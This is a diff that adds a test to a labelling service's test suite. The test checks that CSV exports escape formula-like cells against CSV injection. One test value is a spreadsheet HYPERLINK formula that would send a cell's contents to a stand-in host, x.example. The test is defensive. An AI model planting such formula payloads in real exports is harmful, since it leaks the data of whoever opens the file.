@@ -50,6 +50,35 @@ def test_round_trip_export_holds_exactly_acknowledged_labels():
         assert len(set(ids)) == 50
 
 
+def test_csv_export_keeps_formulas_from_running_in_a_spreadsheet():
+    """An annotator names themselves, and an importer picks external ids:
+    a cell that starts like a formula would run in the spreadsheet of
+    whoever opens the export, so the CSV writes it after an apostrophe
+    (OWASP's CSV injection advice); the JSONL keeps every value as is."""
+    with Daemon(dim=2, classes=["a", "b"]) as d:
+        names = ["=1+2", "+3", "-4", "@SUM(A1)", "ok,5", "6-"]
+        items = [dict(v, external_id=n) for v, n in
+                 zip(vectors(len(names), 2), names)]
+        r = d.post("/v1/samples", {"items": items}, token="ingest")
+        assert r.status == 200, r.body
+        who = '=HYPERLINK("http://x.example/?"&A1,"see")'
+        for it in r.json["items"]:
+            lease = d.post("/v1/leases", {"annotator": who, "n": 1},
+                           token="annotate").json["items"][0]
+            assert d.post("/v1/labels", {"lease_id": lease["lease_id"],
+                                         "label": "a"},
+                          token="annotate").status == 200
+        text = d.get("/v1/export?format=csv", token="ingest").body.decode()
+        table = list(csv.DictReader(io.StringIO(text)))
+        assert sorted(r["external_id"] for r in table) == sorted(
+            ["'=1+2", "'+3", "'-4", "'@SUM(A1)", "ok,5", "6-"])
+        assert {r["annotator"] for r in table} == {"'" + who}
+        rows = [json.loads(x) for x in
+                d.get("/v1/export", token="ingest").body.decode().splitlines()]
+        assert sorted(r["external_id"] for r in rows) == sorted(names)
+        assert {r["annotator"] for r in rows} == {who}
+
+
 def test_export_streams_many_pages():
     with Daemon(dim=2, classes=["a", "b"]) as d:
         ids = import_vectors(d, 1000, dim=2) + import_vectors(d, 500, 2, 7)
@@ -254,6 +283,7 @@ def test_static_page_and_path_tricks():
 
 run([test_round_trip_export_holds_exactly_acknowledged_labels,
      test_export_streams_many_pages,
+     test_csv_export_keeps_formulas_from_running_in_a_spreadsheet,
      test_undo_appends_and_returns_sample_to_queue,
      test_samples_list_states_and_cursor,
      test_images_png_jpeg_idx_and_png_render,
